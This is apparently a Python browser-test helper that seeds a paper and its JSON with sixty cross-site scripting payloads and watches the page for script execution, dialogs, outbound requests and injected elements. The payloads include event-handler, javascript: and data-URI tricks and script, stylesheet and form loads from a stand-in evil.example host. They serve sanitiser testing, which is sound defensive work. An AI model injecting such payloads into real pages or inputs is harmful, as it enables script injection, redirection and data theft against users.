"""Sixty hostile strings, a paper made of them, and a watch for anything that one of them would bring about.

It knows what a page must never do and nothing of how this one is made.
"""

import json
from itertools import cycle
from pathlib import Path
from typing import Any

# Each would call `pwned`, leave the page, fetch from elsewhere or break the layout, were it ever more than text.
STRINGS = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>pwned()</script>",
    "</script><script>pwned()</script>",
    "<<script>pwned();//<</script>",
    "<img src=x onerror=pwned()>",
    "<img src='x' onerror='pwned()'>",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a 1x' onload=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:pwned()'><text y=20>go</text></a></svg>",
    "<svg><foreignObject><body onload=pwned()></foreignObject></svg>",
    "<math><mtext></p><img src onerror=pwned()></mtext></math>",
    "<body onload=pwned()>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()></audio>",
    "<details open ontoggle=pwned()>more</details>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()></select>",
    "<textarea autofocus onfocus=pwned()></textarea>",
    "</textarea><img src=x onerror=pwned()>",
    "<button popovertarget=x onbeforetoggle=pwned()>go</button>",
    "<marquee onstart=pwned()>go</marquee>",
    "<a href=javascript:pwned()>go</a>",
    "<a href='java\tscript:pwned()'>go</a>",
    "<a href='data:text/html,<script>pwned()</script>'>go</a>",
    "<form action=javascript:pwned()><button>go</button></form>",
    "<form action=https://evil.example/><input name=question></form>",
    "<button form=ask formaction=https://evil.example/>go</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0;background:red'>gone</div>",
    "</style></title></template></dialog></main></body></html><script>pwned()</script>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<?xml version='1.0'?><x onclick=pwned()>",
    "javascript:pwned()",
    "JaVaScRiPt:pwned()//",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==",
    "vbscript:pwned()",
    'https://evil.example/"onmouseover="pwned()',
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "`;pwned();//",
    "&lt;img src=x onerror=pwned()&gt;",
    "\u202e<img src=x onerror=pwned()>\u2066 {count} {title} %s __proto__",
)

WATCH = """() => {
    const seen = (window.__seen = []);
    window.pwned = () => seen.push('ran: ' + new Error().stack);
    for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) window[name] = () => seen.push(name);
    addEventListener('securitypolicyviolation', event =>
        seen.push(`policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
}"""

# Elements that no room of the page makes, attributes that run, and addresses that lead nowhere good.
FOREIGN = """() => {
    const none = 'script, iframe, object, embed, base, math, img, video, audio, marquee, style, meta';
    const foreign = [...document.body.querySelectorAll(none)].map(each => each.outerHTML.slice(0, 120));
    for (const each of document.body.querySelectorAll('*')) {
        for (const {name, value} of each.attributes) {
            const leads = ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name);
            if (name.startsWith('on') || name === 'srcdoc') foreign.push(each.outerHTML.slice(0, 120));
            if (leads && !/^https?:$/.test(new URL(value, location.href).protocol)) foreign.push(value);
        }
    }
    return foreign;
}"""


class Watch:
    """What happens on a page that must not: scripts that run, refusals by its policy, requests that leave it."""

    def __init__(self, page: Any, server_url: str) -> None:
        self._page = page
        self._seen: list[str] = []
        page.add_init_script(f"({WATCH})()")
        page.on("dialog", self._refuse)
        page.on("request", lambda asked: self._note_request(asked.url, server_url))
        page.on("popup", lambda popup: self._seen.append(f"popup: {popup.url}"))
        page.on("download", lambda download: self._seen.append(f"download: {download.url}"))

    def read(self) -> list[str]:
        """Return what happened so far, and what stands on the page now that must not."""
        return [*self._seen, *self._page.evaluate("window.__seen"), *self._page.evaluate(FOREIGN)]

    def _refuse(self, dialog: Any) -> None:
        self._seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _note_request(self, url: str, server_url: str) -> None:
        if not url.startswith((server_url, "data:", "blob:")):
            self._seen.append(f"request: {url}")


# What the page goes by, not what it shows.
NAMES = {
    "id",
    "conversation_id",
    "status",
    "kind",
    "support",
    "grounds",
    "document",
    "passage",
    "role",
    "language",
    "style",
}


def poison(value: Any, strings: Any, name: str = "") -> Any:
    """Return JSON with every text in it that is shown replaced by the next hostile string."""
    if isinstance(value, dict):
        return {key: poison(each, strings, key) for key, each in value.items()}
    if isinstance(value, list):
        return [poison(each, strings, name) for each in value]
    return next(strings) if isinstance(value, str) and name not in NAMES else value


def start_cycle() -> Any:
    """Return the hostile strings one after the other, without an end."""
    return cycle(STRINGS)


def write_paper(folder: Path) -> str:
    """Write a paper whose title, headings, sentences, table, notes and addresses are hostile; return its id."""
    metadata = {
        "title": STRINGS[0],
        "subtitle": STRINGS[6],
        "authors": [STRINGS[12], "Anna <b onclick=pwned()>Bee</b>"],
        "date": "2024-05",
        "publisher": STRINGS[32],
        "series": STRINGS[38],
        "doi": '10.1/"onclick="pwned()',
        "rights": STRINGS[8],
        "attribution": STRINGS[44],
        "language": "en",
    }
    (folder / "hostile.json").write_text(json.dumps(metadata), encoding="utf-8")
    (folder / "hostile.txt").write_text(write_text(), encoding="utf-8")
    return "hostile"


SUPERSCRIPTS = str.maketrans("0123456789", "⁰¹²³⁴⁵⁶⁷⁸⁹")


def write_text() -> str:
    """Return the text of the hostile paper: each string in a sentence with a note, and in that note as its address."""
    parts = ["A paper on lanterns", "", "Summary", "", "Lanterns light the harbour.", ""]
    for number, string in enumerate(STRINGS, start=1):
        mark = str(number).translate(SUPERSCRIPTS)
        if number % 20 == 1:
            chapter = number // 20 + 1
            parts += [f"{chapter:02}", "", f"The lantern {string} of harbour {chapter}", ""]
        parts += [
            f"The harbour master wrote {string} on lantern {number}.{mark} The keeper read it twice.",
            "",
            f"{mark} Keeper, A. ({1900 + number}), ‘On {string}’, Journal of Lanterns, <{string}>.",
            "",
        ]
    header = "\t".join(["Lantern", *STRINGS[:3]])
    rows = ["\t".join([str(row), *STRINGS[row * 3 : row * 3 + 3]]) for row in range(1, 8)]
    return "\n".join([*parts, f"Table 1. Lanterns of {STRINGS[45]}", "", header, *rows, ""])
